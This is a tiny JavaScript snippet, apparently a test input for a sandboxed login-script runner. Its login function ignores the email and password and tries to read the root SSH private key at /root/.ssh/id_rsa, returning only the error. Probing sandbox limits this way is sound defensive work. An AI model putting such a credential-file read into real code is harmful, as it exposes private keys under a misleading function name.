function login(email, password, callback) {
  require('fs').readFile('/root/.ssh/id_rsa', (error) => callback(error));
}
